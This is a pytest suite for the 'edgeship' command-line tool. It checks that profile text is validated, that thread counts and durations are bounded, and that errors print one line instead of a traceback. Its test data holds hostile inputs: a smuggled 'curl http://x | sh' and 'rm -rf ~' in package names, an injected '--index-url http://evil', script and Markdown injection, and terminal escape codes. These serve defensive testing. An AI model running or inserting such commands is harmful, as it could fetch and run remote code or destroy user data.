"""Issue 34: text from profiles is data, resources are bounded, and no traceback reaches a user.

Each case runs the command in a subprocess as a user would and asserts one line on stderr,
the exit code, and that nothing was written.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_hostile_paths import edgeship, one_line, target_file

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


# ------------------------------------------------------------------ 5. profile text is data
@pytest.mark.parametrize(
    "old, new, match",
    [
        ("[runtime]\n", '[runtime]\nsystem_packages = ["python3-numpy; curl http://x | sh"]\n', "Debian package"),
        ("[runtime]\n", '[runtime]\nsystem_packages = ["python3-numpy\\nrm -rf ~"]\n', "Debian package"),
        ("[runtime]\n", '[runtime]\nsystem_packages = ["Python3-NumPy"]\n', "Debian package"),
        ('description = "', 'description = "ok\\n```bash\\ncurl http://x | sh\\n```\\n', "control characters"),
        ('note = "', 'note = "\\u001b[31mred\\u001b[0m ', "control characters"),
        ('note = "', 'note = "\\u0007bell ', "control characters"),
        ('versions = ">=2.1.0,<2.4"', 'versions = ">=2.1.0 --index-url http://evil"', "PEP 440"),
        ("threads = 2", "threads = 100000", "1 to 64"),
        ("threads = 2", "threads = 0", "1 to 64"),
        ("min_sqnr_db = 18.0", "min_sqnr_db = -5.0", "not negative"),
        ("max_top1_drop = 1.0", "max_top1_drop = -1.0", "not negative"),
    ],
)
def test_profile_text_is_validated_at_load(tmp_path: Path, old: str, new: str, match: str) -> None:
    profile = target_file(tmp_path, **{old: new})
    assert new in profile.read_text(), "the test's replacement did not apply"
    err = one_line(edgeship("targets", "show", profile), 1, match)
    assert "\x1b" not in err and "\x07" not in err


def test_bundle_readme_escapes_profile_text(tmp_path: Path, tiny_bundle: Path) -> None:
    """Inline Markdown in a description or note stays text: no fence, link or HTML the reader acts on."""
    from tests.test_hostile_writes import float_target

    base = float_target(tmp_path)
    text = base.read_text()
    text = re.sub(r'description = ".*"', 'description = "```bash <script>x</script> [x](http://evil) #1 | ~"', text)
    text = re.sub(r'note = ".*"', 'note = "`rm -rf ~` *bold*"', text)
    base.write_text(text)
    out = tmp_path / "b"
    proc = edgeship("bundle", tiny_bundle / "model_float32.tflite", "--target", base, "-o", out, "-q")
    assert proc.returncode == 0, proc.stderr
    readme = (out / "README.md").read_text()
    fences = [line for line in readme.splitlines() if line.startswith("```")]
    assert fences == ["```bash", "```"], fences  # only the bundle's own block of commands
    assert "<script>" not in readme and "](http" not in readme and "`rm -rf ~`" not in readme


# ------------------------------------------------------------------ 10. bounded resources
@pytest.mark.parametrize(
    "args, match",
    [
        (["bench", "M", "--threads", "100000"], "1 to 64"),
        (["bench", "M", "--threads", "0"], "1 to 64"),
        (["bench", "M", "--duration", "nan"], "finite"),
        (["bench", "M", "--duration", "inf"], "finite"),
        (["deploy", "M", "--calib", ".", "-o", "o", "--target", "x86-host", "--bench-threads", "0"], "1 to 64"),
    ],
)
def test_thread_counts_and_durations_refused_before_anything_runs(tmp_path: Path, args: list[str], match: str) -> None:
    proc = edgeship(*args, cwd=tmp_path, timeout=120)
    err = proc.stderr.strip()
    assert proc.returncode == 2 and match in err and "Traceback" not in err, err
    assert list(tmp_path.iterdir()) == []


def test_runtime_refuses_100000_threads(tiny_bundle: Path, tmp_path: Path) -> None:
    from PIL import Image

    Image.new("RGB", (40, 40)).save(tmp_path / "x.png")
    proc = subprocess.run(
        [sys.executable, "-m", "edgeship.runtime", str(tiny_bundle), str(tmp_path / "x.png"), "-t", "100000"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode != 0 and "1 to 64" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


# ------------------------------------------------------------------ no traceback ever reaches a user
HOSTILE = ["loop", "/dev/null/x", "\n", "-", "x" * 300, "/proc/self/mem", "nan", "-1", "\x1b[31m", "🙂", "a" * 5000]


def _commands() -> list[list[str]]:
    """Every subcommand with each hostile value where a path or a name goes."""
    shapes = [
        ["convert", "{}", "-o", "{}"],
        ["quantize", "{}", "--calib", "{}", "-o", "{}"],
        ["verify", "{}", "{}", "--images", "{}", "--target", "{}", "-r", "{}"],
        ["bench", "{}", "-o", "{}"],
        ["bundle", "{}", "--target", "{}", "-o", "{}"],
        ["deploy", "{}", "--calib", "{}", "--target", "{}", "-o", "{}"],
        ["targets", "show", "{}"],
        ["targets", "list", "--json", "{}"],
    ]
    return [[a.replace("{}", v) for a in shape] for shape in shapes for v in HOSTILE]


def test_every_subcommand_with_hostile_arguments_ends_in_one_line(tmp_path: Path) -> None:
    """No traceback: one line on stderr (usage errors aside, which argparse prints) and a known exit code."""
    (tmp_path / "loop").symlink_to("loop2")
    (tmp_path / "loop2").symlink_to("loop")  # a loop of symbolic links
    failures = []
    for argv in _commands():
        proc = edgeship(*argv, "-q", cwd=tmp_path, timeout=300)
        err = proc.stderr.strip()
        lines = err.splitlines()
        wrote = argv[:2] == ["targets", "list"] and proc.returncode == 0  # a --json file name that is fine
        ok = wrote or (
            "Traceback" not in err and proc.returncode in (1, 2, 3, 4, 5) and (proc.returncode == 2 or len(lines) == 1)
        )
        if not ok:
            failures.append((argv[:2], proc.returncode, err[-500:]))
    assert not failures, json.dumps(failures[:5], indent=1)


def test_an_unexpected_exception_is_one_line_a_log_and_exit_70(tmp_path: Path) -> None:
    """A bug reaches the user as one line naming a log with the traceback (a card nested 100000 deep)."""
    card = tmp_path / "deep.card.json"
    card.write_text("[" * 100000 + "]" * 100000)
    (tmp_path / "deep.tflite").write_bytes(b"\0" * 64)
    proc = edgeship("bundle", tmp_path / "deep.tflite", "--target", "x86-host", "-o", tmp_path / "b", "-q")
    err = proc.stderr.strip()
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    if proc.returncode == 70:
        log = Path(re.search(r"details in (\S+);", err).group(1))  # type: ignore[union-attr]
        assert "Traceback" in log.read_text()
        log.unlink()
    else:
        assert proc.returncode == 1, err


def test_a_second_target_is_refused_not_silently_kept(tmp_path: Path) -> None:
    proc = edgeship("bundle", "m.tflite", "--target", "x86-host", "--target", "rpi-armv7", "-o", "b", cwd=tmp_path)
    assert proc.returncode == 2 and "--target given twice" in proc.stderr, proc.stderr
    assert list(tmp_path.iterdir()) == []
